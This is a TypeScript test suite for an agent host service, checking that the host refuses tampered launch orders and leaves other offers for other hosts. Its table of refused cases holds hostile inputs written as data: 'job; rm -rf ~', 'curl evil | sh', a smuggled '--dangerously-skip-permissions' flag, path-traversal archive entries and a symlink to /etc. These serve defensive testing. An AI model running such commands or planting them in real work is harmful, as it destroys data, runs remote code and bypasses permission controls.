import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it, type TestContext } from 'node:test';
import { packTar } from 'modern-tar';
import { HostService } from '../../../src/application/hosting/host-service.ts';
import type { AttemptKey, BlobName, HostFact, Offer } from '../../../src/application/ports/fleet.ts';
import type { HostedRecord, LaunchOrder } from '../../../src/application/ports/hosting.ts';
import type { Agent } from '../../../src/domain/agent.ts';
import { compilePattern } from '../../../src/domain/command-permission.ts';
import { makeAgentId } from '../../../src/domain/ids.ts';
import { makePlan } from '../../../src/domain/plan.ts';
import { createWorkflow } from '../../../src/domain/workflow.ts';
import { noSetup } from '../../../src/domain/worktree.ts';
import { makeCommandBackend } from '../../../src/infrastructure/backends/command.ts';
import { makeBackends } from '../../../src/infrastructure/backends/registry.ts';
import { sessionLayout } from '../../../src/infrastructure/files/home/layout.ts';
import { decodeOrder } from '../../../src/infrastructure/fleet/launch-order.ts';
import { makeSharedFiles } from '../../../src/infrastructure/fleet/shared-files.ts';
import { MemoryFleet } from '../../helpers/memory/fleet.ts';
import { MemoryMachine } from '../../helpers/memory/host.ts';
import type { Program } from '../../helpers/memory/program.ts';
import { noCalls, noCode, noQuotas } from '../../helpers/no-travel.ts';
import { TestClock } from '../../helpers/test-clock.ts';
import { until } from '../../helpers/waiting.ts';
import { agentRequest, at, planRequest, sessionId } from '../../infrastructure/sqlite/samples.ts';

const project = 'a'.repeat(64);
const known = `U${'A'.repeat(55)}`;
const stranger = `U${'B'.repeat(55)}`;

/** What a home sends, before somebody hostile has changed it. */
interface Sent {
  offer: Omit<Offer, 'order'>;
  readonly order: LaunchOrder;
  /** Whose signature the offer has. */
  home: string | null;
  /** Of the order; null: as it is. */
  content: Uint8Array | null;
  /** Of the order's blob; null: as it is. */
  blob: BlobName | null;
}

/** One host, which lets the command `job` run for the home `known`. */
class Host {
  readonly clock = new TestClock();
  readonly fleet = new MemoryFleet();
  readonly records = new Map<string, HostedRecord>();
  readonly logged: string[] = [];
  readonly folder = mkdtempSync(join(tmpdir(), 'maos-refused-'));
  launches = 0;
  read = 0;
  /** How long the program of `job` runs, in milliseconds. */
  lasts = 0;

  constructor(t: TestContext) {
    const { records, clock, fleet, logged } = this;
    const over = new AbortController();
    const job: Program = async (_, process) => {
      this.launches += 1;
      if (this.lasts > 0) await process.sleep(this.lasts);
      return 0;
    };
    const host = new MemoryMachine(new Map([['job', job]])).host('/memory/host');
    const files = makeSharedFiles(sessionLayout(join(this.folder, 'files')));
    const get = fleet.get.bind(fleet);
    fleet.get = (blob) => {
      this.read += 1;
      return get(blob);
    };
    const take = fleet.take.bind(fleet);
    // What is given back comes again only later, as from a server.
    fleet.take = async (...asked) => {
      const taken = await take(...asked);
      if (taken === null) return null;
      return { ...taken, giveBack: async (ms) => void clock.after(ms, () => void taken.giveBack(ms)) };
    };
    const service = new HostService({
      ...{ name: 'box', pools: ['gpu'], slots: 2, version: '1', graceMs: 0, labels: {}, clock, fleet },
      log: { log: (_level, message, more) => logged.push(`${message} ${JSON.stringify(more)}`) },
      told: (what) => logged.push(what),
      survey: async () => [
        { name: 'command', isInstalled: true, version: null, signedIn: 'yes', heldUntil: null },
      ],
      incarnation: 'i1',
      records: {
        save: async (record) => void records.set(record.key.agentId, record),
        all: async () => [...records.values()],
        keepGiven: async () => {},
        given: async () => null,
        remove: async ({ agentId }) => void records.delete(agentId),
      },
      backends: makeBackends([makeCommandBackend()]),
      rules: { commands: [compilePattern('job')], backends: ['command'], homes: [known] },
      placeOf: () => ({ host, files, code: noCode, calls: () => noCalls }),
      ...{
        teamServer: null,
        quotas: noQuotas,
        decodeOrder,
        freeMemoryMb: () => 4_000,
        isDraining: () => false,
      },
    });
    const running = service.run(over.signal).catch(() => 'it is over');
    t.after(async () => {
      over.abort();
      await this.clock.pass(10_000);
      await running;
      rmSync(this.folder, { recursive: true, force: true });
    });
  }

  async receive(change: (sent: Sent, host: Host) => unknown): Promise<AttemptKey> {
    const { order, key } = orderOf();
    const sent: Sent = {
      ...{ order, home: known, content: null, blob: null },
      offer: { key, pool: 'gpu', format: 1 },
    };
    await change(sent, this);
    const content = sent.content ?? Buffer.from(JSON.stringify(sent.order));
    const blob = await this.fleet.put(`${project}.${key.agentId}.order`, content);
    this.fleet.home = sent.home;
    await this.fleet.offer({ ...sent.offer, order: sent.blob ?? blob });
    return key;
  }

  async comes(what: string, isThere: () => Promise<boolean> | boolean): Promise<void> {
    await until(
      async () => {
        await this.clock.pass(1_000);
        return isThere();
      },
      () => `${what}: ${this.logged.join('\n')}`,
    );
  }

  async end(key: AttemptKey): Promise<Extract<HostFact, { type: 'ended' }> | undefined> {
    const facts: HostFact[] = [];
    const stop = await this.fleet.follow(key, {
      claim: () => {},
      output: () => {},
      fact: (fact) => void facts.push(fact),
    });
    stop();
    return facts.find((fact) => fact.type === 'ended');
  }
}

function orderOf(): { readonly order: LaunchOrder; readonly key: AttemptKey } {
  const request = agentRequest({ name: 'far', workspace: 'own', pool: 'gpu', backend: 'command' });
  const plan = makePlan(planRequest({ agents: [{ ...request, command: ['job'] }] }));
  const { session, agents } = createWorkflow(plan, { sessionId: sessionId(), suffixes: ['abc123'] }, at).next;
  const agent: Agent = {
    ...(agents[0] as Agent),
    ...{ attempt: 1, state: 'running', stage: 'preparing', startedAt: at },
  };
  const given = { prompt: 'Work.', briefing: '', resume: null, maxSubagents: null, start: null };
  return {
    order: { session, agent, ...given, files: null, code: null },
    key: { project, sessionId: session.id, agentId: agent.id, attempt: 1 },
  };
}

/** Changes the order, whatever its type says. */
const order =
  (change: object) =>
  (sent: Sent): unknown =>
    Object.assign(sent.order, change);
const agent =
  (change: object) =>
  (sent: Sent): unknown =>
    Object.assign(sent.order, { agent: { ...sent.order.agent, ...change } });

const role = { description: '', responsibilities: [] };
const roleWith = (file: object) => ({
  name: 'own',
  custom: { ...role, file: { path: 'r.md', prompt: '', tools: null, deniedTools: [], ...file } },
});

async function archive(sent: Sent, host: Host, header: object): Promise<void> {
  const isFile = !('type' in header);
  const entry = { header: { size: isFile ? 1 : 0, ...header } as never, ...(isFile ? { body: 'x' } : {}) };
  Object.assign(sent.order, { files: await host.fleet.put('given', await packTar([entry])) });
}

type Row = readonly [what: string, change: (sent: Sent, host: Host) => unknown, reason: RegExp];

/** The agent fails, and its home is told why. */
const refused: readonly Row[] = [
  ['is not JSON', (sent) => (sent.content = Buffer.from('{"session":')), /not JSON/],
  ['is nothing', (sent) => (sent.content = Buffer.from('null')), /not valid/],
  ['is deeply nested', (sent) => (sent.content = Buffer.from('['.repeat(900_000))), /not JSON/],
  ['is missing', (sent) => (sent.blob = { name: 'none', sha256: 'a'.repeat(64) }), /no blob/],
  [
    'has another content than announced',
    async (sent, { fleet }) => {
      sent.blob = { ...(await fleet.put('other', Buffer.from('x'))), sha256: 'a'.repeat(64) };
    },
    /this content/,
  ],
  ['says more than its format has', order({ environment: { PATH: '/evil' } }), /environment/],
  ['says more of its agent', agent({ program: '/bin/sh' }), /agent.*program/],
  ['is for another attempt', agent({ attempt: 2 }), /another attempt/],
  ['is for another agent', agent({ id: makeAgentId('tester', 2, 'abc123') }), /another attempt/],
  ['is for an agent of another session', agent({ sessionId: sessionId() }), /another session/],
  ['has an agent whose name is a path', agent({ name: '../../x' }), /agent\.name/],
  ['has a session whose id is a path', order({ session: { id: '../x' } }), /session/],
  [
    'has a conversation that a CLI takes for an option',
    order({ resume: { conversation: '--dangerously-skip-permissions', prompt: '' } }),
    /resume\.conversation/,
  ],
  ['has a tool that a CLI takes for an option', agent({ role: roleWith({ tools: ['--x'] }) }), /option/],
  ['denies a tool that is an option', agent({ role: roleWith({ deniedTools: ['-x'] }) }), /option/],
  ['has a command that is not allowed', agent({ command: ['job', '--now'] }), /allowCommands/],
  ['has a shell line that is not allowed', agent({ command: 'job; rm -rf ~' }), /allowCommands/],
  ['has a program in another folder', agent({ command: ['/tmp/job'] }), /allowCommands/],
  [
    'has a set-up command that is not allowed',
    agent({ workspace: 'worktree', worktree: { ...noSetup, setup: 'curl evil | sh' } }),
    /set-up.*allowCommands/,
  ],
  ["is for a project's folder", agent({ workspace: 'project' }), /"project"/],
  [
    'brings a file with a path upwards',
    (sent, host) => archive(sent, host, { name: '../../escaped' }),
    /escaped/,
  ],
  [
    'brings a file with an absolute path',
    (sent, host) => archive(sent, host, { name: '/tmp/maos-escaped' }),
    /escaped/,
  ],
  [
    'brings a link out of its folder',
    (sent, host) => archive(sent, host, { name: 'shared/x', type: 'symlink', linkname: '/etc' }),
    /shared\/x/,
  ],
  ['brings files that are no archive', order({ files: { name: 'none', sha256: 'a'.repeat(64) } }), /no blob/],
];

/** It stays in the queue for other hosts, and the home waits. */
const left: readonly Row[] = [
  ['of a home that it does not work for', (sent) => (sent.home = stranger), /not work for this home/],
  ['that nobody has signed', (sent) => (sent.home = null), /not work for this home/],
  ['of a newer form', (sent) => (sent.offer = { ...sent.offer, format: 99 }), /too old/],
  ['for a backend that it does not run', agent({ backend: 'claude' }), /does not run claude/],
  ['that needs more memory than is free', agent({ maxMemoryMb: 5_000 }), /5000 MiB are needed/],
];

describe('a host', () => {
  it('runs an order that its settings allow', async (t) => {
    const host = new Host(t);
    const key = await host.receive(() => {});
    await host.comes('the end', async () => (await host.end(key)) !== undefined);
    assert.deepEqual([host.launches, (await host.end(key))?.refusal], [1, null]);
  });

  for (const [what, change, reason] of refused) {
    it(`refuses an order that ${what}: nothing runs, and its home and the log say why`, async (t) => {
      const host = new Host(t);
      const key = await host.receive(change);
      await host.comes('the refusal', async () => (await host.fleet.claimOf(key))?.claim.phase === 'ended');
      const end = await host.end(key);
      assert.match(end?.refusal ?? '', reason);
      assert.equal(end?.end.how, 'never_started');
      assert.equal(host.launches, 0);
      assert.equal(host.records.size, 0);
      const said = host.logged.filter((line) => line.includes('refused'));
      assert.equal(said.length, 1, host.logged.join('\n'));
      assert.match(said[0] ?? '', reason);
      const made = readdirSync(host.folder, { recursive: true, encoding: 'utf8' });
      assert.ok(!made.some((path) => path.includes('escaped')), made.join());
      assert.equal(existsSync('/tmp/maos-escaped'), false);
    });
  }

  for (const [what, change, reason] of left) {
    it(`leaves an offer ${what} to others: nothing runs, and the log says why, once`, async (t) => {
      const host = new Host(t);
      const key = await host.receive(change);
      const said = () => host.logged.filter((line) => line.includes('left to other hosts'));
      await host.comes('the reason', () => said().length > 0);
      await host.clock.pass(10_000);
      assert.match(said().join('\n'), reason);
      assert.equal(said().length, 1);
      assert.equal(host.launches, 0);
      assert.equal(await host.fleet.claimOf(key), null);
      // The home calls it back, which ends that.
      await host.fleet.claim(key, { host: null, incarnation: '', epoch: 0, phase: 'ended', obeyed: 0 });
      await host.comes('the end of the offer', () => host.fleet.queued === 0);
      assert.equal(host.launches, 0);
    });
  }

  it('reads nothing of a home that it does not work for', async (t) => {
    const host = new Host(t);
    await host.receive((sent) => (sent.home = stranger));
    await host.comes('the reason', () => host.logged.some((line) => line.includes('left')));
    assert.equal(host.read, 0);
  });

  it('drops an offer of an attempt that another host has', async (t) => {
    const host = new Host(t);
    const key = await host.receive(async (sent, { fleet }) => {
      const claim = { host: 'other', incarnation: 'i2', epoch: 1, phase: 'running', obeyed: 0 } as const;
      await fleet.claim(sent.offer.key, claim);
    });
    await host.comes('the end of the offer', () => host.fleet.queued === 0);
    assert.equal(host.launches, 0);
    assert.equal((await host.fleet.claimOf(key))?.claim.host, 'other');
  });
});

describe('an agent whose start a host cannot report, because the NATS server is away', () => {
  it('is held to its limits all the same, and its home is told of both when the server is back', async (t) => {
    const host = new Host(t);
    host.lasts = 600_000;
    const tell = host.fleet.tell.bind(host.fleet);
    host.fleet.tell = async () => {
      throw new Error('the NATS server does not answer');
    };
    const key = await host.receive(agent({ timeoutMs: 60_000 }));
    await host.comes('the start', () => host.launches === 1);
    await host.comes('the limit', () => host.records.get(key.agentId)?.limited?.failure === 'timeout');
    assert.equal(await host.end(key), undefined);
    host.fleet.tell = tell;
    await host.comes('the end', async () => (await host.end(key)) !== undefined);
    const facts: string[] = [];
    const fact = ({ type }: HostFact): void => void facts.push(type);
    (await host.fleet.follow(key, { claim: () => {}, output: () => {}, fact }))();
    assert.deepEqual(facts, ['spawned', 'limited', 'ended']);
  });
});
